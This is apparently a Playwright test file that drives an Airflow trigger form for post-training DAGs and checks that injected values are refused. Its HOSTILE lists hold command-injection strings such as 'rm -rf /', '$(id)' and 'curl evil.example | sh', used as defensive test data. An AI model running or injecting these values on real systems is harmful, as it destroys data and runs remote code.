"""The trigger form of every generated DAG, in a real browser, used as a person uses it.

Debian's Chromium driven by Playwright, against a real ``airflow api-server`` and ``airflow dag-processor`` (one of
each for all the DAGs) on the conftest's SQLite DB, with SimpleAuthManager's everyone-is-admin mode. No scheduler:
the DAGs stay paused and the runs stay queued. For each DAG the registry generates (local ones included) and the
reaper: the form opens with every Param's title and triggers as it opens; a changed value lands in the run's
``conf``; a hostile value is refused with the field's name and what it expects, and creates no run. Runs are read
back through the REST API. A failing test leaves a screenshot of the page in its tmp dir (path printed).

``TPU_POSTTRAIN_SCREENSHOTS=1`` also writes the form of ``posttrain_sft__gemma3-4b``, with its defaults, to
docs/img/trigger-form.png (the README's).
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import unquote

import httpx
import pytest
from playwright import sync_api
from playwright.sync_api import expect

from airflow_tpu_posttrain.local.processes import free_port, stop_group
from airflow_tpu_posttrain.pipelines.registry import load_registry

pytestmark = pytest.mark.airflow_processes

REPO = Path(__file__).resolve().parents[1]
CHROMIUM = (
    "/usr/bin/chromium"  # Debian's (apt package chromium; scripts/bootstrap.sh), not Playwright's download
)
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
DAG_FILES = ("posttrain_dags.py", "local_dags.py", "tpu_reaper.py", "models.yaml")
REAPER = "tpu_vm_reaper"
README_DAG = "posttrain_sft__gemma3-4b"
README_SCREENSHOT = REPO / "docs" / "img" / "trigger-form.png"


def _registry() -> dict[str, str]:
    """dag_id: recipe, for every post-training DAG of models.yaml (the local ones too, as the test serves them)."""
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("TPU_POSTTRAIN_LOCAL_DIR", "/local-dags-too")  # only whether it is set matters here
        return {config.dag_id: config.recipe for config in load_registry(REPO / "dags" / "models.yaml")}


RECIPES = _registry()
ALL_DAGS = (*RECIPES, REAPER)
# What a person changes, per recipe: (param, its field's title, what is typed, the value the run's conf gets).
# The reaper's only field is a switch: clicked rather than typed into.
CHANGES = {
    "sft": ("steps", "Steps", "7", 7),
    "rl": ("num_batches", "Batches", "3", 3),
    "reaper": ("dry_run", "Dry run", None, True),
}
# Hostile text, one field at a time: a second command after ';', a command substitution, a command on a line of
# its own (a list field takes one item per line; a one-line field would turn the newline into a space).
HOSTILE = [
    ("hub_repo_id", "Hub repo", "my-org/model; rm -rf /"),
    ("storage_uri", "Storage URI", "gs://my-bucket/$(id)"),
    ("zones", "Zones (in order)", "us-east5-b\nrm -rf /"),
]
HOSTILE_BY_RECIPE = {
    "sft": [*HOSTILE, ("dataset", "Dataset", "HuggingFaceH4/ultrachat_200k; curl evil.example | sh")],
    "rl": HOSTILE,
    "reaper": [],  # its form has no text field
}
TIMEOUT_S = 60.0  # a bound on each wait, not a pause: on a loaded 2-core CI runner the UI is slow


def _wait_for(what: str, probe: Callable[[], bool], timeout: float) -> None:
    deadline = time.monotonic() + timeout
    while not probe():
        if time.monotonic() > deadline:
            pytest.fail(f"timed out after {timeout:.0f} s waiting for {what}")
        time.sleep(0.5)


class RestApi:
    """The api-server's REST API; no token needed: in all-admins mode the server authenticates every request."""

    def __init__(self, base_url: str) -> None:
        self.base_url = base_url
        self.http = httpx.Client(base_url=base_url, timeout=30)

    def get(self, path: str, **params) -> dict:
        response = self.http.get(f"/api/v2{path}", params=params)
        response.raise_for_status()
        return response.json()

    def run_count(self, dag_id: str) -> int:
        return self.get(f"/dags/{dag_id}/dagRuns", limit=1)["total_entries"]

    def params(self, dag_id: str) -> dict[str, dict]:
        return self.get(f"/dags/{dag_id}/details")["params"]


@pytest.fixture(scope="module")
def rest(airflow_db, tmp_path_factory) -> Iterator[RestApi]:
    """An api-server and a dag-processor serving every DAG of the registry (the local ones too), all paused."""
    work = tmp_path_factory.mktemp("trigger-form")
    dags_dir = Path(os.environ["AIRFLOW__CORE__DAGS_FOLDER"])
    for name in DAG_FILES:
        shutil.copy(REPO / "dags" / name, dags_dir / name)
    env = {
        **os.environ,
        "TPU_POSTTRAIN_LOCAL_DIR": str(work / "local"),
        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_ALL_ADMINS": "True",
        # The files do not change during the test: parsed once, not every 30 s (the CPU goes to the UI).
        "AIRFLOW__DAG_PROCESSOR__MIN_FILE_PROCESS_INTERVAL": "3600",
        "AIRFLOW__API_AUTH__JWT_SECRET": "test-only-secret-" + "x" * 32,
    }
    port = free_port()
    airflow = [sys.executable, "-m", "airflow"]
    commands = {
        "dag-processor": [*airflow, "dag-processor"],
        "api-server": [*airflow, "api-server", "--host", "127.0.0.1", "--port", str(port), "--workers", "1"],
    }
    logs = {name: work / f"{name}.log" for name in commands}
    procs: dict[str, subprocess.Popen] = {}
    api = RestApi(f"http://127.0.0.1:{port}")

    def all_dags_served() -> bool:
        for name, proc in procs.items():
            assert proc.poll() is None, (
                f"{name} exited; its log ({logs[name]}):\n{logs[name].read_text()[-3000:]}"
            )
        try:
            served = {dag["dag_id"] for dag in api.get("/dags", limit=100)["dags"]}
        except httpx.HTTPError:
            return False
        return set(ALL_DAGS) <= served

    try:
        for name, command in commands.items():  # both start at once, each in its own process group
            with logs[name].open("wb") as log:
                procs[name] = subprocess.Popen(
                    command,
                    env=env,
                    cwd=airflow_db,
                    stdout=log,
                    stderr=subprocess.STDOUT,
                    start_new_session=True,
                )
        _wait_for(f"the api-server to serve every DAG (logs: {work})", all_dags_served, timeout=180)
        errors = [e for e in api.get("/importErrors")["import_errors"] if e["filename"] in DAG_FILES]
        assert not errors, errors
        for dag_id in ALL_DAGS:  # an earlier test of the session may have unpaused one
            api.http.patch(f"/api/v2/dags/{dag_id}", json={"is_paused": True}).raise_for_status()
        yield api
    finally:
        api.http.close()
        for proc in reversed(procs.values()):
            stop_group(proc, grace=10)
        for name in DAG_FILES:
            (dags_dir / name).unlink(missing_ok=True)


@pytest.fixture(scope="module")
def browser_context():
    assert os.access(CHROMIUM, os.X_OK), (
        f"{CHROMIUM} is missing: run scripts/bootstrap.sh (apt package chromium)"
    )
    with sync_api.sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        context = chromium.new_context(viewport={"width": 1280, "height": 1000})
        context.set_default_timeout(TIMEOUT_S * 1000)
        expect.set_options(timeout=TIMEOUT_S * 1000)
        yield context
        chromium.close()


@pytest.fixture
def page(browser_context, rest, dag_id, tmp_path, request):
    """The DAG's page, freshly loaded.

    When the test fails, its screenshot goes to the test's tmp dir (path printed)."""
    page = browser_context.new_page()
    page.goto(f"{rest.base_url}/dags/{dag_id}")
    failed_before = request.session.testsfailed
    yield page
    if request.session.testsfailed > failed_before:  # this test's call failed (counted before its teardown)
        shot = tmp_path / "trigger-form.png"
        page.screenshot(path=shot, full_page=True)
        print(f"\nscreenshot of the trigger form: {shot}")
    page.close()


class TriggerForm:
    """A DAG's trigger dialog, opened with the Trigger button of the DAG's page."""

    def __init__(self, page, dag_id: str) -> None:
        self.page, self.dag_id = page, dag_id
        title = page.get_by_role("heading", name=f"Trigger Dag - {dag_id}", exact=True)
        self.dialog = page.get_by_role("dialog").filter(has=title)
        self.submit = self.dialog.get_by_test_id("trigger-dag-submit")
        page.get_by_role("button", name="Trigger Dag").click()
        expect(self.dialog.get_by_text("Run Parameters")).to_be_visible()
        # Keep the DAG paused: the form offers to unpause it (and would, even for a refused trigger).
        self.dialog.get_by_text(re.compile("^Unpause")).click()
        expect(self.dialog.get_by_role("checkbox", name=re.compile("^Unpause"))).not_to_be_checked()

    def clear_logical_date(self) -> None:
        """A run without a logical date gets a run id of its own, even if one was triggered in the same second."""
        date = self.dialog.get_by_test_id("datetime-input")
        date.click()
        clear = self.page.get_by_role("button", name="Clear start date")
        clear.click()  # also closes the date picker
        expect(clear).to_be_hidden()
        expect(date).to_have_text("Select date and time")

    def label(self, title: str):
        """The label of the field titled ``title`` (a required field's ends in '*')."""
        return self.page.locator("label").filter(has_text=re.compile(rf"^\s*{re.escape(title)}\s*\*?\s*$"))

    def field(self, title: str):
        """The form row of the field titled ``title``: its label, input and help text."""
        return self.dialog.get_by_role("group").filter(has=self.label(title))

    def trigger(self) -> str:
        """Trigger; the new run's id, from the run's page the UI then shows."""
        self.submit.press("Enter")  # not a click: the toast of a refusal may cover the button
        self.page.wait_for_url(re.compile(rf"/dags/{re.escape(self.dag_id)}/runs/[^/?#]+"))
        return unquote(re.search(r"/runs/([^/?#]+)", self.page.url).group(1))

    def refusal(self, key: str) -> str:
        """Trigger; the form's error about ``key``, with Python's wrapped string literals joined back."""
        self.submit.press("Enter")
        alert = self.dialog.get_by_test_id("error-alert")
        expect(alert).to_contain_text(f"Invalid input for param {key}:")
        return re.sub(r"""['"]\n\s*['"]""", "", alert.inner_text())


def _queued_run(rest: RestApi, dag_id: str, run_id: str) -> dict:
    run = rest.get(f"/dags/{dag_id}/dagRuns/{run_id}")
    assert run["state"] == "queued", run
    assert run["triggered_by"] == "ui", run
    return run


def _as_typed(value: object) -> str:
    """What a field shows for a Param's value: a list one item per line, None as an empty field."""
    return "\n".join(value) if isinstance(value, list) else "" if value is None else str(value)


@pytest.mark.parametrize("dag_id", ALL_DAGS)
def test_form_opens_with_every_title_and_triggers_as_it_opens(rest, page, dag_id):
    params = rest.params(dag_id)
    runs_before = rest.run_count(dag_id)
    form = TriggerForm(page, dag_id)
    for key, param in params.items():
        assert param["schema"].get("title"), f"param {key} has no title"
        expect(form.label(param["schema"]["title"])).to_be_visible()
    if dag_id == README_DAG and os.environ.get("TPU_POSTTRAIN_SCREENSHOTS") == "1":
        page.set_viewport_size({"width": 1280, "height": 2600})  # the whole form at once
        form.dialog.screenshot(path=README_SCREENSHOT)

    run = _queued_run(rest, dag_id, form.trigger())

    assert run["conf"] == {key: param["value"] for key, param in params.items()}
    assert rest.run_count(dag_id) == runs_before + 1
    assert rest.get(f"/dags/{dag_id}")["is_paused"]


@pytest.mark.parametrize("dag_id", ALL_DAGS)
def test_form_refuses_hostile_values_then_carries_a_changed_one_into_the_run(rest, page, dag_id):
    recipe = RECIPES.get(dag_id, "reaper")
    params = rest.params(dag_id)
    runs_before = rest.run_count(dag_id)
    form = TriggerForm(page, dag_id)
    for key, title, value in HOSTILE_BY_RECIPE[recipe]:
        text = form.field(title).locator("input, textarea")  # a field with examples is a combobox
        text.fill(value)

        refusal = form.refusal(key)

        # It says what the field expects, with an example (a list's refused item: what each item is).
        schema = params[key]["schema"]
        assert (
            schema["items"]["description_md"] if "items" in schema else params[key]["description"]
        ) in refusal
        text.fill(_as_typed(params[key]["value"]))  # back as it was: the next refusal is about the next field
    assert rest.run_count(dag_id) == runs_before  # refused before anything was created

    key, title, typed, expected = CHANGES[recipe]
    form.clear_logical_date()  # this DAG's second run
    field = form.field(title)
    if typed is None:
        field.locator("label[data-scope='switch']").click()
        expect(field.get_by_role("checkbox")).to_be_checked()
    else:
        field.get_by_role("spinbutton").fill(typed)

    run = _queued_run(rest, dag_id, form.trigger())

    assert run["conf"] == {**{k: param["value"] for k, param in params.items()}, key: expected}
    assert rest.run_count(dag_id) == runs_before + 1
    assert rest.get(f"/dags/{dag_id}")["is_paused"]
